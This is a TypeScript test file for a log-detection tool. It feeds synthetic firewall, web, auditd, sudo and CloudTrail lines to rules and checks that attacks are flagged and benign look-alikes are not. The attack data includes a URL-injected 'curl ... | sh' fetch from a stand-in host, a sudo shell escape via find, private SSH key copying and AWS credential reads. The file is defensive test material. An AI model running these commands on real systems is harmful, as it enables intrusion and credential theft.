// The global rules added for the demo's attack story (config/rules: network/, web/ command
// injection, auditd/sudo steps, S3 mass download) on hand-written lines our parsers read:
// each fires on the attack's form and stays silent on the ordinary look-alike.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { spawnSync } from 'node:child_process';
import { CLI } from './cli-helpers.ts';

const T0 = Date.UTC(2026, 10, 2, 10, 0, 0);
const syslog = (sec: number, host: string, prog: string, msg: string) => {
  const t = new Date(T0 + sec * 1000);
  return `Nov  2 ${t.toISOString().slice(11, 19)} ${host} ${prog}: ${msg}`;
};
let serial = 100;
/** One auditd execve (SYSCALL + EXECVE + CWD) on a host. */
const exec = (sec: number, host: string, exe: string, args: string[], uid: number, cwd: string) => {
  const stamp = `${(T0 / 1000 + sec).toFixed(3)}:${serial++}`;
  return [
    `node=${host} type=SYSCALL msg=audit(${stamp}): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=0 items=2 ppid=800 pid=${serial} auid=4294967295 uid=${uid} gid=${uid} euid=${uid} suid=${uid} fsuid=${uid} egid=${uid} sgid=${uid} fsgid=${uid} tty=(none) ses=4294967295 comm="${args[0]}" exe="${exe}" key="exec"`,
    `node=${host} type=EXECVE msg=audit(${stamp}): argc=${args.length} ${args.map((a, i) => (/[\s"]/.test(a) ? `a${i}=${Buffer.from(a).toString('hex').toUpperCase()}` : `a${i}="${a}"`)).join(' ')}`,
    `node=${host} type=CWD msg=audit(${stamp}): cwd="${cwd}"`,
  ].join('\n');
};
const fw = (sec: number, src: string, port: number, action: string) => {
  const s = new Date(T0 + sec * 1000).toISOString();
  return `date=${s.slice(0, 10)} time=${s.slice(11, 19)} devname="fw-1" srcip=${src} srcport=40000 dstip=10.0.10.11 dstport=${port} policyid=0 proto=6 action="${action}"`;
};
const ct = (sec: number, user: string, name: string) => JSON.stringify({
  eventVersion: '1.09', userIdentity: { type: 'IAMUser', userName: user, arn: `arn:aws:iam::111122223333:user/${user}` }, eventTime: new Date(T0 + sec * 1000).toISOString().replace(/\.\d{3}Z$/, 'Z'),
  eventSource: 's3.amazonaws.com', eventName: name, awsRegion: 'eu-west-1', sourceIPAddress: '192.0.2.50', requestParameters: { bucketName: 'b', key: `k${sec}` },
});
const access = (sec: number, url: string) => `192.0.2.44 - - [02/Nov/2026:10:${String(Math.floor(sec / 60)).padStart(2, '0')}:${String(sec % 60).padStart(2, '0')} +0000] "GET ${url} HTTP/1.1" 200 512 "-" "curl/8.5.0"`;

function detect(lines: string[]): Map<string, number> {
  const dir = mkdtempSync(join(tmpdir(), 'demo-rules-'));
  try {
    const input = join(dir, 'in.log');
    writeFileSync(input, `${lines.join('\n')}\n`);
    const r = spawnSync(process.execPath, [CLI, 'detect', '--input', input, '--output', 'jsonl'], { encoding: 'utf8', maxBuffer: 1 << 26 });
    assert.equal(r.status, 0, r.stderr);
    const titles = new Map<string, number>();
    for (const l of r.stdout.trim().split('\n').filter(Boolean)) {
      const t = (JSON.parse(l) as { rule: { title: string } }).rule.title;
      titles.set(t, (titles.get(t) ?? 0) + 1);
    }
    return titles;
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}
test('the attack-story rules fire on the attack and not on the ordinary look-alikes', () => {
  const attack: string[] = [];
  const normal: string[] = [];
  // Port scan: 20 ports denied from one source within five minutes; normal: 14 single probes from 14 sources.
  for (let p = 0; p < 20; p++) attack.push(fw(p * 5, '203.0.113.66', 1000 + p, 'deny'));
  for (let p = 0; p < 14; p++) normal.push(fw(p * 5, `198.51.100.${p + 1}`, 1000 + p, 'deny'), fw(p * 5 + 1, '198.51.100.200', 443, 'accept'));
  // Command injection in a URL; normal: a search with a semicolon-free query.
  attack.push(access(30, '/shop/api/render?tpl=invoice;id'), access(31, '/shop/api/render?tpl=x;curl%20-s%20http://203.0.113.66/k.sh%7Csh'));
  normal.push(access(30, '/search?q=shoes&page=2'), access(31, '/products?id=1042'));
  // A shell from the web root / as www-data; normal: node started by www-data, a shell in /root.
  attack.push(exec(40, 'web-1', '/usr/bin/dash', ['sh', '-c', 'id'], 33, '/var/www/shop'));
  normal.push(exec(40, 'web-1', '/usr/bin/node', ['node', 'server.js'], 33, '/var/www/shop'), exec(41, 'web-1', '/usr/bin/bash', ['bash'], 0, '/root'));
  // Shell escape through sudo; normal: an ordinary sudo command.
  attack.push(syslog(50, 'web-1', 'sudo', 'www-data : TTY=pts/0 ; PWD=/var/www/shop ; USER=root ; COMMAND=/usr/bin/find /var/www/shop -maxdepth 0 -exec /bin/sh -p ;'));
  normal.push(syslog(50, 'web-1', 'sudo', 'alice : TTY=pts/1 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/find /var/log -name *.gz -delete'));
  // Private key copied, ssh with a key in /dev/shm; normal: the public key read, ssh with the user's own key.
  attack.push(exec(60, 'web-1', '/usr/bin/cp', ['cp', '/home/deploy/.ssh/id_ed25519', '/dev/shm/.k'], 0, '/root'));
  attack.push(exec(61, 'web-1', '/usr/bin/ssh', ['ssh', '-i', '/dev/shm/.k', 'deploy@10.0.20.21'], 0, '/root'));
  normal.push(exec(60, 'ci-1', '/usr/bin/cat', ['cat', '/home/deploy/.ssh/id_ed25519.pub'], 1100, '/home/deploy'));
  normal.push(exec(61, 'ci-1', '/usr/bin/ssh', ['ssh', '-i', '/home/deploy/.ssh/id_ed25519', 'deploy@web-1'], 1100, '/home/deploy'));
  // Cloud credentials read, database dumped into /tmp; normal: the backup job's dump into its own folder.
  attack.push(exec(70, 'db-1', '/usr/bin/cat', ['cat', '/opt/backup/.aws/credentials'], 1100, '/home/deploy'));
  attack.push(exec(71, 'db-1', '/usr/bin/pg_dump', ['pg_dump', '-U', 'shop', '-f', '/tmp/.s.sql', 'shop'], 1100, '/home/deploy'));
  normal.push(exec(71, 'db-1', '/usr/bin/pg_dump', ['pg_dump', '-U', 'shop', '-f', '/var/backups/shop.sql', 'shop'], 34, '/opt/backup'));
  // 120 GetObject by one principal within ten minutes; normal: 60 by another.
  for (let i = 0; i < 120; i++) attack.push(ct(100 + i * 2, 'data-export-role', 'GetObject'));
  for (let i = 0; i < 60; i++) normal.push(ct(100 + i * 5, 'ec2-batch-role', 'GetObject'));

  const hits = detect(attack);
  for (const title of ['Port Scan Through The Firewall', 'Command Injection Attempt In URL', 'Shell Started By A Web Application', 'Shell Escape Through Sudo', 'Private SSH Key Read', 'SSH With A Copied Private Key', 'Cloud Credentials File Read', 'Database Dump To A Temporary Directory', 'AWS S3 Mass Object Download']) {
    assert.ok((hits.get(title) ?? 0) >= 1, `${title} should fire; got ${[...hits.keys()].join(' | ')}`);
  }
  assert.equal(hits.get('Firewall Connection Denied'), undefined, 'building blocks do not alert on their own');
  assert.equal(hits.get('AWS S3 Object Read'), undefined, 'building blocks do not alert on their own');
  const quiet = detect(normal);
  assert.deepEqual([...quiet.keys()], [], 'no alert on the ordinary look-alikes');
});
